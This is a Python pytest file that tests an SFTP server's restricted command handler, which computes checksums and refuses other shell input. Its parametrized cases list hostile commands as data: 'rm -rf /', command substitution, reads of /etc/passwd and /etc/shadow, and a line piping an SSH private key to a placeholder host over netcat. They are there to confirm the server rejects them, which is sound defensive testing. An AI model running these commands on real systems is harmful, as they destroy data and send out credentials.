from __future__ import annotations

import hashlib
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from headwater.doors.sftp.commands import DIGESTS, FILES_MAX, run
from tests.unit.doors.sftp.world import FOLDER

PATH = f"{FOLDER}/a.csv"


@pytest.mark.parametrize("command", DIGESTS)
async def test_digests_are_told_as_coreutils_do(client, command):
    """Of deliveries, by their paths; of nothing, which clients try out first."""
    data = os.urandom(100_000)
    await client.put(PATH, data)
    digest = hashlib.new(DIGESTS[command], data).hexdigest()
    for _ in range(2):
        said = await run(client.desk, f"{command} {PATH}")
        assert said == (0, f"{digest}  {PATH}\n".encode(), b"")
    nothing = hashlib.new(DIGESTS[command]).hexdigest()
    assert (await run(client.desk, command)).out == f"{nothing}  -\n".encode()


async def test_a_digest_of_a_temporary_file_is_told(client):
    """Before its rename, and it can be renamed afterwards."""
    await client.put(f"{PATH}.tmp", b"abc")
    assert (await run(client.desk, f"md5sum {PATH}.tmp")).out.startswith(b"900150983cd24fb0")
    assert (await client.rename(f"{PATH}.tmp", PATH)).is_ok


@pytest.mark.parametrize(
    "command",
    [
        'sha256sum "$(reboot)"; rm -rf /',
        "md5sum `id`",
        "md5sum /etc/passwd",
        "sha1sum ../../../etc/shadow",
        "md5sum $HOME/.ssh/id_rsa | nc evil 1",
        "md5sum a\0b",
        "md5sum " + "x" * 5000,
        "md5sum /shop/orders/a.csv",
        f"md5sum {FOLDER}",
    ],
)
async def test_what_is_no_file_of_the_sender_has_no_digest(client, command):
    """Words are words: nothing is expanded, run, or read from a disk."""
    said = await run(client.desk, command)
    assert (said.code, said.out) == (1, b"")
    assert said.err


@pytest.mark.parametrize(
    "command",
    ["sh", "rm -rf /", "bash -c 'id'", "; id", "$(id)", "ls", "cat /etc/passwd", "\n", "", "/usr/bin/md5sum x", "\0"],
)
async def test_nothing_else_is_run(client, command):
    """There is one sentence for all of them."""
    said = await run(client.desk, command)
    assert (said.code, said.out) == (127, b"")
    assert b"it runs nothing" in said.err


async def test_what_cannot_be_read_is_said_to_be_so(client):
    """A quote that is never closed."""
    assert (await run(client.desk, "md5sum 'a")).code == 2


async def test_clients_find_what_they_try_out(client):
    """rclone asks for `echo`, `pwd` and what `cd` does."""  # noqa: D403 - its name
    assert (await run(client.desk, "echo 'abc' \"d e\"")).out == b"abc d e\n"
    assert (await run(client.desk, "pwd")).out == b"/\n"
    assert (await run(client.desk, "cd /")).code == 0


async def test_more_files_than_a_thousand_are_not_looked_for(client):
    """One command does a bounded work."""
    said = await run(client.desk, "md5sum " + " ".join(f"f{number}" for number in range(2000)))
    assert said.err.count(b"\n") == FILES_MAX


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(command=st.text(max_size=80))
async def test_any_command_is_answered(client, command):
    """Nothing is raised, whatever it says."""
    said = await run(client.desk, command)
    assert said.code in {0, 1, 2, 127}
